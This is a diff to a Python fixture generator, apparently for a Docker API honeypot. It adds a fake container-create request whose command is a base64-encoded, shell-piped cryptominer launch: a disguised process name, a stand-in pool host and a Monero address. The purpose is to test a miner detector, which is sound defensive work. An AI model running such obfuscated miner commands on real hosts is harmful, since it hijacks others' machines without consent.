@@ -127,3 +127,22 @@ with open(os.path.join(out, "confluence.jsonl"), "w") as f:
 
 with open(os.path.join(out, "wallet.txt"), "w") as f:
     f.write(BTC + "\n")
+
+# A create whose command decodes (Base64) to an xmrig-style command line with
+# a pool and a Monero address: the honeypot hands the decoded text to the file
+# engine, whose miner analyser must see the command line. The address is one
+# the other fixtures already use (valid checksum, made by gen_wallets.py).
+XMR = ("4AKGFPLCEowJVyjQPACyXaaqk7ZnnxKPxc8UpzduHzE73YsPghMAXvUFPtGu37NWxkh"
+       "bqVgGxRyxMZdQjwadaxRPHe8J6Vo")
+miner_line = ("/tmp/.x/kthreaddi --donate-level 1 -o pool.example.net:3333 -u %s "
+              "-p x -k --background\n" % XMR)
+miner_cmd = 'echo %s | base64 -d | sh' % base64.b64encode(miner_line.encode()).decode()
+payload_lines = [
+    rec("pull_alpine", "POST", "/v1.41/images/create?fromImage=alpine&tag=latest",
+        "Go-http-client/1.1", "192.0.2.60"),
+    rec("create_base64_miner", "POST", "/v1.41/containers/create",
+        "Go-http-client/1.1", "192.0.2.60", create_body(["sh", "-c", miner_cmd])),
+]
+with open(os.path.join(out, "attacks-payload.jsonl"), "w") as f:
+    for l in payload_lines:
+        f.write(json.dumps(l) + "\n")
